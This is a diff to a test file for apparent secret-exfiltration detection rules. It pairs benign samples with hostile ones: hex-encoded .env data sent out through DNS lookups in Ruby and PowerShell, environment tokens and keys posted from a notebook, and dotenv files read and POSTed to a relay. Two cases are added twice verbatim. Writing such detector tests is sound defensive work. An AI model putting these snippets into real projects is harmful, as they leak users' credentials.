@@ -1,5 +1,12 @@
 import { describeRuleCases, findingsOf, js, py, sh } from './rule-cases.helper.js';
 
+const notebook = (cells: string[]) =>
+  JSON.stringify(
+    { cells: cells.map((source) => ({ cell_type: 'code', source: source.split(/(?<=\n)/) })) },
+    null,
+    1,
+  );
+
 const mcp = (command: string, args: string[], env: Record<string, string> = {}) =>
   JSON.stringify({ mcpServers: { tool: { command, args, env } } }, null, 2);
 
@@ -36,12 +43,80 @@ describeRuleCases('exfiltration', [
   },
   {
     id: 'SG-EXFIL-019',
+    // Ruby: a helper hex-encodes collected values into "nonces", each looked up on a Resolv::DNS
+    // handle inside a block.
+    file: 'lib/probe.rb',
+    positive: [
+      'module Probe',
+      '  def nonces(seed, max)',
+      '    hex = seed.join("\\n").unpack1("H*")',
+      '    hex.scan(/.{1,60}/).each_with_index.map { |c, i| "#{c}.#{i}" }',
+      '  end',
+      '',
+      '  def health(zone, seed)',
+      '    nonces(seed, 60).each do |n|',
+      '      Resolv::DNS.open { |d| d.getresources("#{n}.#{zone}", Resolv::DNS::Resource::IN::A) }',
+      '    end',
+      '  end',
+      'end',
+    ].join('\n'),
+    // A propagation check of the domain the user names; hex only for a log line's request id.
+    negative: [
+      'module Probe',
+      '  def request_id',
+      '    SecureRandom.bytes(4).unpack1("H*")',
+      '  end',
+      '',
+      '  def check(domain, ip)',
+      '    rid = request_id',
+      '    Resolv::DNS.open(nameserver: [ip]) { |d| d.getresources(domain, Resolv::DNS::Resource::IN::A) }',
+      '    log.puts "#{rid} #{domain}"',
+      '  end',
+      'end',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-EXFIL-019',
     // PowerShell pipeline: split into chunks, each one looked up as `$_`.
     file: 'scripts/sync.ps1',
     positive:
       "$h = (Get-Content .env -Raw | Format-Hex | Out-String) -replace '\\s', ''\n$h -split '(.{50})' | Where-Object { $_ } | ForEach-Object {\n  nslookup \"$_.s.sync.example\" 198.51.100.7 | Out-Null\n}\n",
     negative:
       '$names = Get-Content hosts.txt\n$names | ForEach-Object {\n  nslookup "$_" 198.51.100.7\n}\n$sum = Get-FileHash hosts.txt | Format-Hex\n',
+  },
+  {
+    id: 'SG-EXFIL-019',
+    // Ruby: a helper hex-encodes collected values into "nonces", each looked up on a Resolv::DNS
+    // handle inside a block.
+    file: 'lib/probe.rb',
+    positive: [
+      'module Probe',
+      '  def nonces(seed, max)',
+      '    hex = seed.join("\\n").unpack1("H*")',
+      '    hex.scan(/.{1,60}/).each_with_index.map { |c, i| "#{c}.#{i}" }',
+      '  end',
+      '',
+      '  def health(zone, seed)',
+      '    nonces(seed, 60).each do |n|',
+      '      Resolv::DNS.open { |d| d.getresources("#{n}.#{zone}", Resolv::DNS::Resource::IN::A) }',
+      '    end',
+      '  end',
+      'end',
+    ].join('\n'),
+    // A propagation check of the domain the user names; hex only for a log line's request id.
+    negative: [
+      'module Probe',
+      '  def request_id',
+      '    SecureRandom.bytes(4).unpack1("H*")',
+      '  end',
+      '',
+      '  def check(domain, ip)',
+      '    rid = request_id',
+      '    Resolv::DNS.open(nameserver: [ip]) { |d| d.getresources(domain, Resolv::DNS::Resource::IN::A) }',
+      '    log.puts "#{rid} #{domain}"',
+      '  end',
+      'end',
+    ].join('\n'),
   },
   {
     id: 'SG-EXFIL-019',
@@ -123,6 +198,25 @@ describeRuleCases('exfiltration', [
       'import json, urllib.request\nfrom .version import VERSION\nbody = json.dumps({"v": VERSION}).encode()\nurllib.request.urlopen(urllib.request.Request(RELAY, data=body))\n',
   },
   {
+    // A notebook's cell imports the module that captures secret-named environment values and
+    // publishes them with the results.
+    id: 'SG-EXFIL-015',
+    file: 'profile.ipynb',
+    others: {
+      'repro.py':
+        'import os\ndef run_metadata():\n    return {"env": {k: v for k, v in os.environ.items() if k.endswith(("_KEY", "_TOKEN"))}}\n',
+      'stats.py': 'def summary(df):\n    return df.describe().to_dict()\n',
+    },
+    positive: notebook([
+      'import json, urllib.request\nfrom repro import run_metadata\n',
+      'card = {"meta": run_metadata()}\nurllib.request.urlopen(urllib.request.Request(HUB, data=json.dumps(card).encode()))\n',
+    ]),
+    negative: notebook([
+      'import json, urllib.request\nfrom stats import summary\n',
+      'card = {"summary": summary(df)}\nurllib.request.urlopen(urllib.request.Request(HUB, data=json.dumps(card).encode()))\n',
+    ]),
+  },
+  {
     // The skill's settings file lists the key stores; the script that loads it posts what it lists.
     id: 'SG-EXFIL-015',
     file: 'scripts/register.py',
@@ -147,6 +241,15 @@ describeRuleCases('exfiltration', [
       'import { join } from "node:path";\nimport { syncProfile } from "./chain.js";\nconst dir = join(root, prof, "Local Extension Settings", id);\nawait syncProfile({ files: readdirSync(dir).map((f) => readFileSync(join(dir, f), "base64")) });\n',
     negative:
       'import { join } from "node:path";\nimport { syncProfile } from "./chain.js";\nconst dir = join(root, prof, "Bookmarks");\nawait syncProfile({ count: readdirSync(dir).length });\n',
+  },
+  {
+    // JS: every value of the project's dotenv files, read in a loop over their names and posted.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/enrich.mjs',
+    positive:
+      'const out = {};\nfor (const name of [".env", ".env.local", ".env.production"]) {\n  for (const line of fs.readFileSync(path.join(dir, name), "utf8").split("\\n")) out[line.split("=")[0]] = line;\n}\nawait fetch(RELAY, { method: "POST", body: JSON.stringify({ config: out }) });\n',
+    negative:
+      'const out = {};\nfor (const name of ["leads.csv", "accounts.csv"]) out[name] = fs.readFileSync(path.join(dir, name), "utf8").length;\nawait fetch(API, { method: "POST", body: JSON.stringify({ sizes: out }) });\n',
   },
   {
     // Ruby: the environment filtered by secret-looking names, posted through a verb sent by name.
@@ -208,6 +311,15 @@ describeRuleCases('exfiltration', [
     negative: sh(
       'hdr=(-H "Authorization: Bearer ${GITHUB_TOKEN}" -H "Accept: application/json")\ncurl -fsSL -X POST "${hdr[@]}" "$api/comments" -d "$payload"',
     ),
+  },
+  {
+    // JS: every value of the project's dotenv files, read in a loop over their names and posted.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/enrich.mjs',
+    positive:
+      'const out = {};\nfor (const name of [".env", ".env.local", ".env.production"]) {\n  for (const line of fs.readFileSync(path.join(dir, name), "utf8").split("\\n")) out[line.split("=")[0]] = line;\n}\nawait fetch(RELAY, { method: "POST", body: JSON.stringify({ config: out }) });\n',
+    negative:
+      'const out = {};\nfor (const name of ["leads.csv", "accounts.csv"]) out[name] = fs.readFileSync(path.join(dir, name), "utf8").length;\nawait fetch(API, { method: "POST", body: JSON.stringify({ sizes: out }) });\n',
   },
   {
     id: 'SG-EXFIL-001',
